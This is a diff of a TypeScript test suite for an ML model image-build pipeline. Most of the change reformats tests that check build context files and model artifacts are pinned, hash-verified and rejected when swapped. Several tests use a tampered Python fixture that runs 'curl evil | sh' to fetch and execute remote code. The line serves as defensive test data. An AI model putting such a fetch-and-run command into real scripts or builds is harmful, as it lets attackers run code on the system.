@@ -105,7 +105,7 @@ describe('imageBuildSpec', () => {
     expect(wait).toMatch(/^aws ecr wait image-scan-complete --repository-name "\$REPOSITORY_NAME" --image-id imageTag="\$IMAGE_TAG" \|\| echo "[^"]+"$/);
   });
 
-  it('reads exactly the variables the build is given: the start\'s, the project\'s and AWS_REGION', () => {
+  it("reads exactly the variables the build is given: the start's, the project's and AWS_REGION", () => {
     const assignedInCommands = allCommands.flatMap((command) => [...command.matchAll(/(?:^|[\s;])([A-Za-z_][A-Za-z0-9_]*)=/g)].map((m) => m[1]));
     const readVariables = allCommands.flatMap((command) => [...command.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1]));
     const loopVariables = allCommands.flatMap((command) => [
@@ -199,7 +199,11 @@ describe('imageBuildSpec', () => {
         .map((line) => line.split('\x1f').slice(0, -1));
       const read = (file: string) => readFileSync(path.join(work, file), 'utf8');
       const built = (file: string) => readFileSync(path.join(scratch, 'context', file), 'utf8');
-      const tarList = () => spawnSync('tar', ['-tzf', path.join(work, 'uploaded.tar.gz')], { encoding: 'utf8' }).stdout.split('\n').filter(Boolean).sort();
+      const tarList = () =>
+        spawnSync('tar', ['-tzf', path.join(work, 'uploaded.tar.gz')], { encoding: 'utf8' })
+          .stdout.split('\n')
+          .filter(Boolean)
+          .sort();
       const tarFile = (member: string) => spawnSync('tar', ['-xzOf', path.join(work, 'uploaded.tar.gz'), member], { encoding: 'utf8' }).stdout;
       return { run, called, read, built, tarList, tarFile, cleanUp: () => rmSync(work, { recursive: true, force: true }) };
     }
@@ -208,10 +212,19 @@ describe('imageBuildSpec', () => {
     const FRAUD = 'weights of fraud v2 11';
     const models = [
       { name: 'churn', version: 3, artifactUri: 's3://artifacts/models/churn/3/model.tar.gz', artifactVersionId: 'Vchurn3', artifactSha256: sha256(CHURN) },
-      { name: 'fraud.v2', version: 11, artifactUri: 's3://artifacts/models/fraud detection/11/model.joblib', artifactVersionId: 'Vfraud11', artifactSha256: sha256(FRAUD) },
+      {
+        name: 'fraud.v2',
+        version: 11,
+        artifactUri: 's3://artifacts/models/fraud detection/11/model.joblib',
+        artifactVersionId: 'Vfraud11',
+        artifactSha256: sha256(FRAUD),
+      },
     ];
     const contextText = {
-      ...renderBuildContext({ imageName: 'churn-scorer', imageVersion: 2, baseImage: 'python:3.12', entryFile: 'score.py', models, environment: {}, requirements: [] }, ''),
+      ...renderBuildContext(
+        { imageName: 'churn-scorer', imageVersion: 2, baseImage: 'python:3.12', entryFile: 'score.py', models, environment: {}, requirements: [] },
+        '',
+      ),
       'score.py': 'def run(data):\n    return data\n',
     };
 
@@ -222,7 +235,8 @@ describe('imageBuildSpec', () => {
         'artifacts/models/churn/3/model.tar.gz@Vchurn3': CHURN,
         'artifacts/models/fraud detection/11/model.joblib@Vfraud11': FRAUD,
       };
-      for (const file of files) objects[`artifacts/${BUILD_VARIABLES.CONTEXT_PREFIX}${file.name}@${file.versionId}`] = contextText[file.name as keyof typeof contextText];
+      for (const file of files)
+        objects[`artifacts/${BUILD_VARIABLES.CONTEXT_PREFIX}${file.name}@${file.versionId}`] = contextText[file.name as keyof typeof contextText];
       swap(objects);
       return { objects, env: { CONTEXT_FILES: formatContextFiles(files) } };
     }
@@ -232,7 +246,15 @@ describe('imageBuildSpec', () => {
       try {
         expect(phase.run.stderr).toBe('');
         expect(phase.run.status).toBe(0);
-        expect(phase.tarList()).toEqual(['./', './churn/', './churn/3/', './churn/3/model.tar.gz', './fraud.v2/', './fraud.v2/11/', './fraud.v2/11/model.joblib']);
+        expect(phase.tarList()).toEqual([
+          './',
+          './churn/',
+          './churn/3/',
+          './churn/3/model.tar.gz',
+          './fraud.v2/',
+          './fraud.v2/11/',
+          './fraud.v2/11/model.joblib',
+        ]);
         expect(phase.tarFile('./fraud.v2/11/model.joblib')).toBe(FRAUD);
         expect(phase.tarFile('./churn/3/model.tar.gz')).toBe(CHURN);
         const gets = phase.called.filter((args) => args[1] === 's3api').map((args) => args.slice(4, 9));
@@ -248,10 +270,13 @@ describe('imageBuildSpec', () => {
     });
 
     it('assembles the build context from exactly the pinned version of each file', () => {
-      const phase = runPhase(preBuild.commands, registered((objects) => {
-        // A newer version of the script, written after registration: not the one pinned.
-        objects[`artifacts/${BUILD_VARIABLES.CONTEXT_PREFIX}score.py@later`] = 'import os\nos.system("curl evil | sh")\n';
-      }));
+      const phase = runPhase(
+        preBuild.commands,
+        registered((objects) => {
+          // A newer version of the script, written after registration: not the one pinned.
+          objects[`artifacts/${BUILD_VARIABLES.CONTEXT_PREFIX}score.py@later`] = 'import os\nos.system("curl evil | sh")\n';
+        }),
+      );
       try {
         expect(phase.run.status).toBe(0);
         for (const [name, text] of Object.entries(contextText)) expect(phase.built(name)).toBe(text);
@@ -265,7 +290,10 @@ describe('imageBuildSpec', () => {
       ['the Dockerfile', `artifacts/images/churn-scorer/2/context/Dockerfile@ctx0`],
       ['models.txt', `artifacts/images/churn-scorer/2/context/models.txt@ctx3`],
     ])('fails pre_build when %s of the context was swapped after registration, before packing or logging in', (_, swapped) => {
-      const phase = runPhase(preBuild.commands, registered((objects) => (objects[swapped] = 'import os\nos.system("curl evil | sh")\n')));
+      const phase = runPhase(
+        preBuild.commands,
+        registered((objects) => (objects[swapped] = 'import os\nos.system("curl evil | sh")\n')),
+      );
       try {
         expect(phase.run.status).not.toBe(0);
         expect(phase.run.stderr).toContain(`s3://${swapped.replace('@', ' version ')} is not what was registered`);
@@ -276,10 +304,15 @@ describe('imageBuildSpec', () => {
     });
 
     it('fails pre_build when a model artifact version holds other bytes than the registry pinned, uploading no model data', () => {
-      const phase = runPhase(preBuild.commands, registered((objects) => (objects['artifacts/models/churn/3/model.tar.gz@Vchurn3'] = 'swapped weights')));
+      const phase = runPhase(
+        preBuild.commands,
+        registered((objects) => (objects['artifacts/models/churn/3/model.tar.gz@Vchurn3'] = 'swapped weights')),
+      );
       try {
         expect(phase.run.status).not.toBe(0);
-        expect(phase.run.stderr).toContain(`s3://artifacts/models/churn/3/model.tar.gz version Vchurn3 is not what was registered: it cannot be read or its SHA-256 is not ${sha256(CHURN)}`);
+        expect(phase.run.stderr).toContain(
+          `s3://artifacts/models/churn/3/model.tar.gz version Vchurn3 is not what was registered: it cannot be read or its SHA-256 is not ${sha256(CHURN)}`,
+        );
         expect(phase.called.filter((args) => args[1] === 's3' || args[1] === 'ecr' || args[0] === 'docker')).toEqual([]);
       } finally {
         phase.cleanUp();
@@ -287,10 +320,13 @@ describe('imageBuildSpec', () => {
     });
 
     it('fails pre_build when the pinned version of a model artifact is gone, though its key holds other bytes now', () => {
-      const phase = runPhase(preBuild.commands, registered((objects) => {
-        delete objects['artifacts/models/fraud detection/11/model.joblib@Vfraud11'];
-        objects['artifacts/models/fraud detection/11/model.joblib@newer'] = 'overwritten weights';
-      }));
+      const phase = runPhase(
+        preBuild.commands,
+        registered((objects) => {
+          delete objects['artifacts/models/fraud detection/11/model.joblib@Vfraud11'];
+          objects['artifacts/models/fraud detection/11/model.joblib@newer'] = 'overwritten weights';
+        }),
+      );
       try {
         expect(phase.run.status).not.toBe(0);
         expect(phase.run.stderr).toContain('NoSuchVersion');
@@ -300,7 +336,7 @@ describe('imageBuildSpec', () => {
       }
     });
 
-    it('logs Docker in to the registry host with the password from ECR, in the build\'s region', () => {
+    it("logs Docker in to the registry host with the password from ECR, in the build's region", () => {
       const phase = runPhase(preBuild.commands, registered());
       try {
         expect(phase.called).toContainEqual(['aws', 'ecr', 'get-login-password', '--region', 'eu-west-1']);
@@ -322,7 +358,11 @@ describe('imageBuildSpec', () => {
     });
 
     /** The build phase after pre_build assembled a context whose Dockerfile builds on `baseImage`. */
-    const buildOn = (baseImage: string) => ['mkdir -p /tmp/context', `printf '# Built by mlops-platform\\nFROM ${baseImage}\\nWORKDIR /opt/program\\n' > /tmp/context/Dockerfile`, ...build.commands];
+    const buildOn = (baseImage: string) => [
+      'mkdir -p /tmp/context',
+      `printf '# Built by mlops-platform\\nFROM ${baseImage}\\nWORKDIR /opt/program\\n' > /tmp/context/Dockerfile`,
+      ...build.commands,
+    ];
 
     it('pulls the base image of the Dockerfile, exports its digest, then builds on it and pushes $REPOSITORY_URI:$IMAGE_TAG', () => {
       const phase = runPhase([...buildOn('public.ecr.aws/docker/library/python:3.12-slim'), 'echo "exported $BASE_IMAGE_DIGEST"']);
@@ -360,7 +400,16 @@ describe('imageBuildSpec', () => {
       const phase = runPhase(postBuild.commands, { env: { SCAN_WAIT_STATUS: String(status) } });
       try {
         expect(phase.run.status).toBe(0);
-        expect(phase.called[0]).toEqual(['aws', 'ecr', 'wait', 'image-scan-complete', '--repository-name', 'mlops-images', '--image-id', 'imageTag=churn-scorer-2']);
+        expect(phase.called[0]).toEqual([
+          'aws',
+          'ecr',
+          'wait',
+          'image-scan-complete',
+          '--repository-name',
+          'mlops-images',
+          '--image-id',
+          'imageTag=churn-scorer-2',
+        ]);
         expect(phase.run.stdout).toBe(status === 0 ? '' : 'The image scan did not complete within the wait; the image is recorded without findings.\n');
       } finally {
         phase.cleanUp();
